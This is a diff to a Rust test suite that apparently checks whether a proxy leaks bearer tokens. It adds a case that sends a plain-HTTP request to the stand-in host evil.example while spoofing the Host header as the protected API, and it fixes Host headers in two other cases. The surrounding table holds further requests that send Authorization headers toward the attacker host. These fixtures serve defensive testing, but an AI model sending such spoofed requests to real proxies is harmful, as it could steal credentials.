@@ -23,7 +23,7 @@ use Way::{Evil, Forward, Plain, Request, Tunnel};
 const BEARER: &str = "Authorization: Bearer {P}\r\n";
 
 /// The name of each way, the way, and whether it reaches a server at all.
-const WAYS: [(&str, Way); 46] = [
+const WAYS: [(&str, Way); 47] = [
     (
         "other host",
         Evil("GET / HTTP/1.1\r\nHost: {E}\r\nAuthorization: Bearer {P}\r\n\r\n"),
@@ -179,7 +179,7 @@ const WAYS: [(&str, Way); 46] = [
     (
         "plain http by the proxy",
         Forward(
-            "GET http://api.example:{ap}/echo HTTP/1.1\r\nHost: api.example\r\n{B}Connection: close\r\n\r\n",
+            "GET http://api.example:{ap}/echo HTTP/1.1\r\nHost: api.example:{ap}\r\n{B}Connection: close\r\n\r\n",
         ),
     ),
     (
@@ -206,7 +206,7 @@ const WAYS: [(&str, Way); 46] = [
     (
         "a stored echo by plain http",
         Forward(
-            "GET http://api.example:{ap}/last HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n",
+            "GET http://api.example:{ap}/last HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
         ),
     ),
     (
@@ -226,6 +226,12 @@ const WAYS: [(&str, Way); 46] = [
     (
         "a stored echo by HTTP/2",
         Plain("api.example:{ap}", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    ),
+    (
+        "Host of the bound one in plain http",
+        Forward(
+            "GET http://evil.example:{ep}/ HTTP/1.1\r\nHost: {H}\r\n{B}Connection: close\r\n\r\n",
+        ),
     ),
     (
         "padding before the value",
@@ -248,6 +254,7 @@ async fn attempt(world: &World, way: &Way) -> Outcome {
             .replace("{E}", &format!("evil.example:{}", world.evil.secure))
             .replace("{e}", &world.evil.secure.to_string())
             .replace("{a}", &world.api.secure.to_string())
+            .replace("{ep}", &world.evil.plain.to_string())
             .replace("{ap}", &world.api.plain.to_string());
         // A connection that stays open would only be waited for.
         let text = text.replacen("\r\nHost:", "\r\nConnection: close\r\nHost:", 1);
